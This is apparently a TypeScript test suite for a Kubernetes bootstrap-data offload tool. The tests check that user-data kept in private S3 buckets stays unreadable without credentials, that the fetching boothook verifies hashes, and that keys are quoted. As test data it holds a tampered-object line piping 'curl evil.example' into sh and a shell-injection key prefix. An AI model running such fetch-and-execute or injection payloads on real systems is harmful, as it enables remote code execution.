/**
 * Offload that keeps secrets private: the stub names s3://bucket/key and the node fetches with its
 * instance role; the object is not readable without credentials; a presigned URL only on request.
 * Real parts: s3rver with private buckets, cloud-init's own user-data processing, ignition-validate,
 * bash and Debian's AWS CLI running the boothook.
 */
import { createHash } from 'node:crypto'
import { readFile, readdir, rm, stat } from 'node:fs/promises'
import path from 'node:path'
import { GetObjectCommand, HeadObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3'
import { expect } from '../support/chai.js'
import { S3RVER_CREDENTIALS, S3Server } from '../support/s3-server.js'
import { makeTempDir, type TempDir } from '../support/temp.js'
import {
  createS3Store,
  generateBootstrapData,
  type GenerateResult,
  type OutputFormat,
} from '../../src/lib/bootstrapdata/index.js'
import type { ObjectStore } from '../../src/lib/bootstrapdata/offload.js'
import {
  FIXED_NOW,
  fixtureText,
  tempWorkspace,
  testDeps,
  testOptions,
  validateCloudConfig,
  validateIgnition,
} from './helpers.js'
import { cloudInitParts, runBoothook } from './offload-boothook.js'

const CREDS = {
  AWS_ACCESS_KEY_ID: S3RVER_CREDENTIALS.accessKeyId,
  AWS_SECRET_ACCESS_KEY: S3RVER_CREDENTIALS.secretAccessKey,
}
const sha = (alg: string, text: string) => createHash(alg).update(text).digest('hex')

describe('bootstrap data offload keeps secrets private (s3rver with private buckets)', function () {
  this.timeout(120_000)
  let s3: S3Server
  let ws: TempDir
  let client: S3Client
  before(async () => {
    s3 = await new S3Server().start(['userdata'], { private: true })
    client = new S3Client({
      endpoint: s3.endpoint,
      forcePathStyle: true,
      region: 'us-east-1',
      credentials: S3RVER_CREDENTIALS,
    })
  })
  after(async () => {
    client.destroy()
    await s3.stop()
  })
  beforeEach(async () => (ws = await tempWorkspace()))
  afterEach(async () => ws.cleanup())

  const store = () => createS3Store({ endpoint: s3.endpoint, credentials: S3RVER_CREDENTIALS })
  /** s3rver standing in for AWS S3 itself, whose s3:// URLs Ignition can fetch. */
  const awsLikeStore = (): ObjectStore => ({ ...store(), endpoint: undefined })
  const anonymousGet = (key: string) =>
    fetch(`${s3.endpoint}/userdata/${key.split('/').map(encodeURIComponent).join('/')}`)
  async function fetchSigned(key: string): Promise<string> {
    const res = await client.send(new GetObjectCommand({ Bucket: 'userdata', Key: key }))
    return (await res.Body?.transformToString()) ?? ''
  }

  async function generate(
    format: OutputFormat,
    prefix: string,
    extra: { presignedUrlSeconds?: number; objectStore?: () => ObjectStore } = {},
  ): Promise<{ result: GenerateResult; stub: string; key: string }> {
    const result = await generateBootstrapData(
      testOptions(ws.dir, {
        machine: 'worker-0',
        format,
        upload: `s3://userdata/${prefix}`,
        presignedUrlSeconds: extra.presignedUrlSeconds,
      }),
      await testDeps(await fixtureText(true), { objectStore: extra.objectStore ?? store }),
    )
    const entry = result.machines[0]
    const stub = await readFile(entry?.file as string, 'utf8')
    const key = (entry?.offload?.object as string).slice('s3://userdata/'.length)
    return { result, stub, key }
  }

  describe('cloud-config: a MIME boothook stub', () => {
    it('names s3://, holds no URL or secret, and cloud-init runs it; the object is refused without credentials', async () => {
      const { result, stub, key } = await generate('cloud-config', 'private')
      const full = await fetchSigned(key)
      expect(result.machines[0]?.offload).to.deep.equal({
        object: `s3://userdata/${key}`,
        stubBytes: Buffer.byteLength(stub),
        access: 'instance-role',
        deleteAfterRead: `s3://userdata/${key}`,
      })
      expect(stub).to.contain(`SOURCE='s3://userdata/${key}'`)
      expect(stub).to.contain(`SHA256='${sha('sha256', full)}'`)
      expect(stub).to.contain(`--endpoint-url '${s3.endpoint}'`)
      expect(stub).not.to.match(/https?:\/\/[^']*\?|X-Amz|BEGIN .*PRIVATE KEY/)
      expect(full).to.contain('kubeadm join')

      const res = await anonymousGet(key)
      expect(res.status).to.equal(403)
      expect(await res.text()).to.contain('AccessDenied')

      // cloud-init's own reading of the stub: one boothook part it has a handler for, then the include.
      const first = await cloudInitParts(stub, { errorOnFailure: false })
      expect(first.parts?.map((p) => [p.type, p.handled])).to.deep.equal([['text/cloud-boothook', true]])
      // The include is resolved before boothooks run: stock cloud-init (>= 20.3) refuses the first
      // pass, which is why the image must patch ERROR_ON_USER_DATA_FAILURE as CAPA's images do.
      expect((await cloudInitParts(stub, { errorOnFailure: true })).error).to.match(
        /No such file or directory: '\/etc\/secret-userdata.txt'/,
      )

      const node = await makeTempDir('constell-node-')
      try {
        const out = path.join(node.dir, 'secret-userdata.txt')
        const restarted = path.join(node.dir, 'restarted')
        const script = first.parts?.[0]?.payload as string
        expect(script)
          .to.match(/^ATTEMPTS=10$/m)
          .and.to.match(/^DELAY=10$/m)
          .and.to.match(/^umask 077$/m)
        const ran = await runBoothook(script, { out, restarted, env: CREDS, dir: node.dir })
        expect(ran.code, ran.stderr).to.equal(0)
        expect(await readFile(out, 'utf8')).to.equal(full)
        expect((await stat(out)).mode & 0o777).to.equal(0o600)
        expect(await readdir(node.dir)).to.include.members(['restarted'])
        // the node took the object away itself (the role here may delete)
        await expect(client.send(new HeadObjectCommand({ Bucket: 'userdata', Key: key }))).to.be.rejected

        // cloud-init's second pass includes the fetched document; it is valid cloud-config
        const second = await cloudInitParts(stub, { errorOnFailure: true, include: out })
        expect(second.parts?.map((p) => [p.type, p.handled])).to.deep.equal([
          ['text/cloud-boothook', true],
          ['text/cloud-config', true], // the worker's data refers to no instance data: no template
        ])
        expect(second.parts?.[1]?.payload).to.equal(full)
        await validateCloudConfig(full)

        // a reboot: the object is gone, the verified file is used as is, no restart again
        await rm(restarted)
        const again = await runBoothook(script, { out, restarted, env: {}, dir: node.dir })
        expect(again.code, again.stderr).to.equal(0)
        expect(again.stderr).to.contain('already fetched and verified')
        expect(await readdir(node.dir)).not.to.include('restarted')
      } finally {
        await node.cleanup()
      }
    })

    const refusals: Array<[string, Record<string, string>, RegExp, boolean]> = [
      ['without credentials', {}, /could not fetch/, false],
      [
        'with wrong credentials',
        { AWS_ACCESS_KEY_ID: 'nobody', AWS_SECRET_ACCESS_KEY: 'x' },
        /could not fetch/,
        false,
      ],
      [
        'when the object was altered in the bucket',
        CREDS,
        /does not have the expected sha256: refusing it/,
        true,
      ],
    ]
    for (const [i, [name, env, message, alter]] of refusals.entries()) {
      it(`the boothook fails loudly ${name} and writes nothing`, async () => {
        const { stub, key } = await generate('cloud-config', `refuse-${i}`)
        if (alter) {
          const body = `${await fetchSigned(key)}\nruncmd: [curl evil.example | sh]\n`
          await client.send(new PutObjectCommand({ Bucket: 'userdata', Key: key, Body: body }))
        }
        const script = (await cloudInitParts(stub, { errorOnFailure: false })).parts?.[0]?.payload as string
        const node = await makeTempDir('constell-node-')
        try {
          const out = path.join(node.dir, 'secret-userdata.txt')
          const restarted = path.join(node.dir, 'restarted')
          const ran = await runBoothook(script, { out, restarted, attempts: 2, env, dir: node.dir })
          expect(ran.code).to.equal(1)
          expect(ran.stderr).to.match(message).and.to.contain('FATAL')
          expect(await readdir(node.dir)).to.deep.equal(['boothook.sh'])
          // a refused object stays for inspection; nothing was deleted
          await client.send(new HeadObjectCommand({ Bucket: 'userdata', Key: key }))
        } finally {
          await node.cleanup()
        }
      })
    }

    it('quotes keys: a prefix with shell syntax stays a literal key', async () => {
      const { stub, key } = await generate('cloud-config', `inj'$(touch PWNED)\`touch PWNED2\`"x`)
      expect(key).to.equal(`inj'$(touch PWNED)\`touch PWNED2\`"x/worker-0.cloud-config`)
      const script = (await cloudInitParts(stub, { errorOnFailure: false })).parts?.[0]?.payload as string
      const node = await makeTempDir('constell-node-')
      try {
        const out = path.join(node.dir, 'secret-userdata.txt')
        const ran = await runBoothook(script, {
          out,
          restarted: path.join(node.dir, 'restarted'),
          env: CREDS,
          dir: node.dir,
        })
        expect(ran.code, ran.stderr).to.equal(0)
        expect(await readdir(node.dir)).to.have.members(['boothook.sh', 'secret-userdata.txt', 'restarted'])
        expect(await readdir(process.cwd())).not.to.include.members(['PWNED', 'PWNED2'])
      } finally {
        await node.cleanup()
      }
    })
  })

  describe('Ignition: an s3:// replace stub', () => {
    it('names s3:// with the sha512 of the full document, validates, and the object is refused without credentials', async () => {
      const { result, stub, key } = await generate('ignition', 'ign', { objectStore: awsLikeStore })
      await validateIgnition(stub)
      const full = await fetchSigned(key)
      const replace = (
        JSON.parse(stub) as {
          ignition: { config: { replace: { source: string; verification: { hash: string } } } }
        }
      ).ignition.config.replace
      expect(replace).to.deep.equal({
        source: `s3://userdata/${key}`,
        verification: { hash: `sha512-${sha('sha512', full)}` },
      })
      expect(full).to.contain('"name":"kubeadm.service"')
      await validateIgnition(full)
      expect(result.machines[0]?.offload?.access).to.equal('instance-role')
      expect((await anonymousGet(key)).status).to.equal(403)
      // an altered object no longer matches what Ignition verifies before use
      expect(replace.verification.hash).not.to.equal(`sha512-${sha('sha512', `${full} `)}`)
    })

    it('a non-AWS endpoint without --presigned-url is a usage error: Ignition cannot fetch s3:// there', async () => {
      const run = generate('ignition', 'ign-endpoint')
      await expect(run).to.be.rejectedWith(/--s3-endpoint .* with Ignition output needs --presigned-url/)
      expect(await readdir(ws.dir)).to.deep.equal(['pki'])
    })
  })

  describe('--presigned-url (explicit opt-in)', () => {
    for (const format of ['cloud-config', 'ignition'] as const) {
      it(`${format}: the stub's presigned URL fetches the object, for the given time only`, async () => {
        const { result, stub, key } = await generate(format, `presigned-${format}`, {
          presignedUrlSeconds: 600,
        })
        const url =
          format === 'ignition'
            ? (JSON.parse(stub) as { ignition: { config: { replace: { source: string } } } }).ignition.config
                .replace.source
            : (stub.split('\n')[1] as string)
        if (format === 'ignition') await validateIgnition(stub)
        else expect(stub.split('\n')[0]).to.equal('#include')
        expect(url).to.contain('X-Amz-Expires=600')
        const res = await fetch(url)
        expect(res.status).to.equal(200)
        expect(await res.text()).to.equal(await fetchSigned(key))
        expect(result.machines[0]?.offload).to.include({
          access: 'presigned-url',
          urlExpires: new Date(FIXED_NOW.getTime() + 600_000).toISOString(),
          deleteAfterRead: `s3://userdata/${key}`,
        })
        expect(JSON.stringify(result)).not.to.contain('X-Amz-Signature')
        expect((await anonymousGet(key)).status).to.equal(403)
      })
    }
  })
})
